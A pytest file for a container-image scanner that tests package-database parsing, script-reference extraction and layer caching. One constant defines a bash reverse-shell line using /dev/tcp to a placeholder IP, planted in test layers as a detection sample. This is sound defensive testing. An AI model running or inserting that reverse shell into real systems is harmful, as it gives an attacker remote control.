"""Layer scans: package databases, script references, the cache round trip and the store-backed layer cache."""

from __future__ import annotations

import io
import zlib
from pathlib import Path

import pytest

from tests.support.oci import FileSpec, tar_layer, write_image_layout
from workers.domain import Digest, parse_digest
from workers.layerscan import ANALYZER_VERSION, LayerScan, StoredLayerCache, scan_layer, script_references
from workers.packagedb import Ownership, PackageIndex, is_package_db_path, parse_package_db_file
from workers.pipeline import Vetter, load_scanners
from workers.settings import PROJECT_ROOT, UnpackLimits
from workers.sources import OciLayoutSource
from workers.store import Store

RULES = PROJECT_ROOT / "rules"
REVERSE_SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


class MemoryCache:
    """An in-process layer cache with counters (the real one is StoredLayerCache over the store)."""

    def __init__(self) -> None:
        self.items: dict[tuple[str, str], bytes] = {}
        self.puts = 0

    def get(self, digest: Digest, key: str) -> LayerScan | None:
        blob = self.items.get((digest, key))
        return LayerScan.from_cache(blob) if blob is not None else None

    def put(self, scan: LayerScan, key: str) -> None:
        self.puts += 1
        self.items[(scan.digest, key)] = scan.to_cache()


def test_dpkg_files_parse() -> None:
    status = parse_package_db_file(
        "var/lib/dpkg/status",
        b"Package: bash\nStatus: install ok installed\nDescription: x\n more\n\n"
        b"Package: gone\nStatus: deinstall ok config-files\n\n",
    )
    assert status is not None and status.installed == ("bash",)
    listing = parse_package_db_file("var/lib/dpkg/info/libc6:amd64.list", b"/.\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
    assert listing is not None and listing.package == "libc6"
    assert listing.paths == ("usr/lib/x86_64-linux-gnu/libc.so.6",)
    sums = parse_package_db_file("var/lib/dpkg/info/bash.md5sums", b"0" * 32 + b"  bin/bash\nnot a line\n")
    assert sums is not None and sums.md5 == {"bin/bash": "0" * 32}


def test_apk_and_distroless_databases_parse() -> None:
    apk = parse_package_db_file(
        "lib/apk/db/installed",
        b"C:Q1abc=\nP:busybox\nV:1.36\nF:bin\nR:busybox\nZ:Q1xyz=\n\nP:musl\nF:lib\nR:ld-musl.so.1\n",
    )
    assert apk is not None and apk.owners == {"bin/busybox": "busybox", "lib/ld-musl.so.1": "musl"}
    control = parse_package_db_file("var/lib/dpkg/status.d/base-files", b"Package: base-files\nVersion: 1\n")
    assert control is not None and control.installed == ("base-files",)
    assert is_package_db_path("var/lib/dpkg/status.d/base-files.md5sums")
    assert not is_package_db_path("var/lib/dpkg/info/nested/x.list")


@pytest.mark.parametrize("blob", [b"", b"\xff\xfe\x00garbage", b"P:\nR:\n\n" * 1000, b"Package" * 10_000])
def test_hostile_package_databases_never_raise(blob: bytes) -> None:
    for path in (
        "var/lib/dpkg/status",
        "lib/apk/db/installed",
        "var/lib/dpkg/info/x.list",
        "var/lib/dpkg/info/x.md5sums",
    ):
        parsed = parse_package_db_file(path, blob)
        assert parsed is not None
        PackageIndex.build([parsed])


def test_ownership_outcomes() -> None:
    index = PackageIndex.build(
        [
            parse_package_db_file("var/lib/dpkg/info/a.md5sums", b"a" * 32 + b"  usr/bin/a\n"),
            parse_package_db_file("var/lib/dpkg/info/a.list", b"/usr/bin/a\n/etc/a.conf\n"),
        ]  # type: ignore[list-item]
    )
    assert index.check("usr/bin/a", "a" * 32) == (Ownership.VERIFIED, "a")
    assert index.check("usr/bin/a", "b" * 32) == (Ownership.MODIFIED, "a")
    assert index.check("etc/a.conf", "c" * 32) == (Ownership.OWNED, "a")  # conffiles have no md5sums entry
    assert index.check("usr/bin/b", None) == (Ownership.UNOWNED, None)
    assert PackageIndex.build([]).check("usr/bin/b", None) == (Ownership.UNKNOWN, None)


def test_script_references_are_bounded() -> None:
    refs = script_references(b"#!/bin/sh\nexec /usr/local/bin/start.sh; sh ./run.sh; python dao.py\n")
    assert refs[:2] == ("/bin/sh", "/usr/local/bin/start.sh")
    assert "./run.sh" in refs and "dao.py" in refs
    assert len(script_references(b" ".join(b"/p/%d" % i for i in range(1000)))) == 128


def test_layer_scan_round_trips_through_the_cache_format() -> None:
    layer = tar_layer({"opt/run.sh": FileSpec.file(REVERSE_SHELL, 0o755), "bin": FileSpec.symlink("usr/bin")})
    scanners = load_scanners(RULES)
    scan = scan_layer(
        io.BytesIO(layer.data),
        parse_digest(layer.digest),
        file_scanners=scanners.file_scanners,
        limits=UnpackLimits(),
        is_autostart=lambda _p: False,
    )
    assert scan.cacheable and scan.hits and scan.facts["opt/run.sh"].kind == "script"
    again = LayerScan.from_cache(scan.to_cache())
    assert again == scan
    assert LayerScan.from_cache(b"not zlib") is None
    assert (
        LayerScan.from_cache(zlib.compress(b'{"v": "%s", "digest": "sha256:nothex"}' % ANALYZER_VERSION.encode()))
        is None
    )
    assert LayerScan.from_cache(zlib.compress(b'{"v": "an-older-analyzer"}')) is None


def test_partial_layer_scans_are_not_cached(tmp_path: Path) -> None:
    layer = tar_layer({f"f{i}": b"x" for i in range(20)})
    write_image_layout(tmp_path, [layer])
    cache = MemoryCache()
    vetter = Vetter(load_scanners(RULES), limits=UnpackLimits(max_entries=5), layer_cache=cache)
    report = vetter.vet(OciLayoutSource(tmp_path, "latest"), "latest")
    assert report.errors and any(f.rule == "tollgate.unpack.limit" for f in report.findings)
    assert cache.puts == 0


def test_sibling_images_scan_only_their_new_layers(tmp_path: Path) -> None:
    base = tar_layer({"usr/bin/tool": FileSpec.file(b"\x7fELF" + b"\0" * 60, 0o755), "etc/os-release": b"ID=test\n"})
    app_a = tar_layer({"opt/run.sh": FileSpec.file(REVERSE_SHELL, 0o755)})
    app_b = tar_layer({"opt/other.txt": b"hello"})
    cache = MemoryCache()
    scanners = load_scanners(RULES)
    config = {"config": {"Entrypoint": ["/opt/run.sh"]}}
    write_image_layout(tmp_path / "a", [base, app_a], config=config)
    write_image_layout(tmp_path / "b", [base, app_b])

    first = Vetter(scanners, layer_cache=cache)
    report_a = first.vet(OciLayoutSource(tmp_path / "a", "latest"), "latest")
    assert first.cache_hits == 0 and cache.puts == 2
    second = Vetter(scanners, layer_cache=cache)
    report_b = second.vet(OciLayoutSource(tmp_path / "b", "latest"), "latest")
    assert second.cache_hits == 1 and cache.puts == 3  # only app_b was scanned
    third = Vetter(scanners, layer_cache=cache)
    again_a = third.vet(OciLayoutSource(tmp_path / "a", "latest"), "latest")
    assert third.cache_hits == 2
    assert again_a.findings == report_a.findings and again_a.verdict is report_a.verdict
    assert report_b.verdict.value == "clean"


def test_stored_layer_cache_against_the_real_database(store: Store, tmp_path: Path) -> None:
    layer = tar_layer({"opt/run.sh": FileSpec.file(REVERSE_SHELL, 0o755)})
    write_image_layout(tmp_path, [layer], config={"config": {"Entrypoint": ["/opt/run.sh"]}})
    cache = StoredLayerCache(store)
    scanners = load_scanners(RULES)
    first = Vetter(scanners, layer_cache=cache)
    report = first.vet(OciLayoutSource(tmp_path, "latest"), "latest")
    second = Vetter(scanners, layer_cache=cache)
    again = second.vet(OciLayoutSource(tmp_path, "latest"), "latest")
    assert (first.cache_hits, second.cache_hits) == (0, 1)
    assert again.findings == report.findings
    assert store.get_layer_scan(parse_digest(layer.digest), second._cache_key()) is not None
    # A damaged row is a miss, never a verdict.
    store.put_layer_scan(parse_digest(layer.digest), "damaged", b"\x00garbage")
    assert cache.get(parse_digest(layer.digest), "damaged") is None
